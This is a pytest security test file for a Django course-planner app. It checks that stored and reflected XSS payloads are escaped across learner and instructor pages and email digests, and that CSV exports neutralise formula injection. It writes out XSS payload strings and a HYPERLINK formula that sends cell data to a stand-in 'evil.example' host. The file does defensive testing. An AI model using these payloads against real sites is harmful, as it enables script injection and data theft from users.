"""Stored and reflected script payloads in every text field a user writes are escaped on learner
and instructor pages and in the digest's HTML; CSV cells cannot start a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from planner.capstone.grading import ScoreInput, grade_release, submission_claim
from planner.capstone.services import worksheet_autosave, worksheet_submit
from planner.models import CapstoneWorksheet, Criterion, Level
from tests.planner.factories import GOOD_PLAN
from tests.security.conftest import World

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '<script>alert("xss")</script>',
    '"><img src=x onerror=alert(1)>',
    "</textarea><svg onload=alert(1)>",
    "javascript:alert(1)",
]
PAYLOAD = PAYLOADS[0] + PAYLOADS[1] + PAYLOADS[2]
# Markup a payload would put on a page if it went out unescaped.
RAW = ["<script>alert", "<img src=x", "<svg onload"]
TEXT_FIELDS = [
    "feature",
    "user_problem",
    "model_name",
    "framework",
    "realistic_input",
    "latency_target",
    "data_source",
    "recommendation_reasons",
    "failure_case",
]


def _assert_escaped(html: str, where: str) -> None:
    for raw in RAW:
        assert raw not in html, f"{raw!r} unescaped on {where}"
    assert escape(PAYLOADS[0]) in html, f"the payload is not shown at all on {where}"


@pytest.fixture
def hostile(world: World) -> World:
    """Every text a learner or instructor writes carries the payload, the grade released."""
    for user in (world.learner, world.instructor, world.other):
        user.display_name = PAYLOAD[:80]
        user.save()
    world.card.name = PAYLOAD[:120]
    world.card.notes = PAYLOAD
    world.card.save()
    criterion: Criterion = world.criterion
    criterion.title = PAYLOAD[:200]
    criterion.description = PAYLOAD
    criterion.save()
    Level.objects.filter(criterion=criterion).update(title=PAYLOAD[:120], description=PAYLOAD)
    now = timezone.now()
    submission_claim(grader=world.staff, submission_id=world.submission.pk, now=now)
    grade_release(
        grader=world.staff,
        submission_id=world.submission.pk,
        now=now,
        scores=[
            ScoreInput(criterion_id=c.pk, level_id=c.levels.first().pk, comment=PAYLOAD)
            for c in world.course.rubric.criteria.all()
        ],
        overall_feedback=PAYLOAD,
    )
    fields = {name: PAYLOAD for name in TEXT_FIELDS if hasattr(CapstoneWorksheet, name)}
    worksheet = CapstoneWorksheet.objects.get(learner=world.learner, course=world.course)
    worksheet = worksheet_autosave(
        worksheet=worksheet, data={**GOOD_PLAN, **fields}, workload_cards=[world.card]
    )
    world.resubmission = worksheet_submit(worksheet=worksheet, now=timezone.now())
    return world


def test_learner_pages_escape_every_stored_payload(hostile: World) -> None:
    client = Client()
    client.force_login(hostile.learner)
    for url in [
        reverse("capstone:submission", args=[hostile.submission.pk]),
        reverse("capstone:submission", args=[hostile.resubmission.pk]),
        reverse("capstone:worksheet", args=[hostile.course.slug]),
        reverse("planner:cards"),
        reverse("planner:cards_compare") + f"?card={hostile.card.pk}",
        reverse("preferences"),
    ]:
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_escaped(response.content.decode(), url)


def test_instructor_pages_escape_every_stored_payload(hostile: World) -> None:
    client = Client()
    client.force_login(hostile.instructor)
    for url in [
        reverse("capstone:grading_queue"),
        reverse("capstone:grade", args=[hostile.submission.pk]),
        reverse("capstone:grade", args=[hostile.resubmission.pk]),
        reverse("capstone:rubric", args=[hostile.course.slug]),
        reverse("capstone:criterion", args=[hostile.course.slug, hostile.criterion.pk]),
        reverse("courses:teaching_course", args=[hostile.course.slug]),
    ]:
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_escaped(response.content.decode(), url)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_reflected_payloads_are_escaped(world: World, payload: str) -> None:
    """Query strings a page echoes back: the calculator's inputs, the queue's filters."""
    client = Client()
    client.force_login(world.instructor)
    for url, params in [
        (reverse("planner:calculator"), {"gpu_memory_gb": payload, "model": payload}),
        (reverse("planner:api_serving"), {"gpu_memory_gb": payload}),
        (reverse("capstone:grading_queue"), {"course": payload, "status": payload}),
    ]:
        html = client.get(url, params).content.decode()
        for raw in RAW:
            assert raw not in html, (url, payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_reflected_payloads_are_escaped_on_learner_pages(world: World, payload: str) -> None:
    """The reveal's card token, the compare page's ids and the review session echo input."""
    client = Client()
    client.force_login(world.learner)
    for url, params in [
        (reverse("quizzes:answer_reveal", args=[world.item.pk]), {"token": payload}),
        (reverse("planner:calculator"), {"estimate": payload, "users": payload}),
        (reverse("quizzes:session"), {"course": payload}),
    ]:
        html = client.get(url, params).content.decode()
        for raw in RAW:
            assert raw not in html, (url, payload)


def test_the_digest_html_escapes_the_learners_name(hostile: World) -> None:
    from reminders.emails import digest_message_build
    from reminders.models import ReminderDigest
    from reminders.selectors import DigestContent

    digest = ReminderDigest.objects.get(learner=hostile.learner)
    message = digest_message_build(
        digest=digest,
        learner=hostile.learner,
        content=DigestContent(due_count=1, first_schedule=hostile.schedule),
        now=timezone.now(),
    )
    html = next(body for body, kind in message.alternatives if kind == "text/html")
    for raw in RAW:
        assert raw not in html


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_cannot_start_a_formula(hostile: World, start: str) -> None:
    hostile.learner.display_name = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    hostile.learner.save()
    client = Client()
    client.force_login(hostile.instructor)

    response = client.get(reverse("capstone:export", args=[hostile.course.slug]))

    body = b"".join(response.streaming_content).decode()  # the export streams its rows
    rows = list(csv.reader(io.StringIO(body)))
    assert len(rows) == 2
    for cell in rows[1]:
        assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}, cell
    assert rows[1][1] == "'" + hostile.learner.display_name
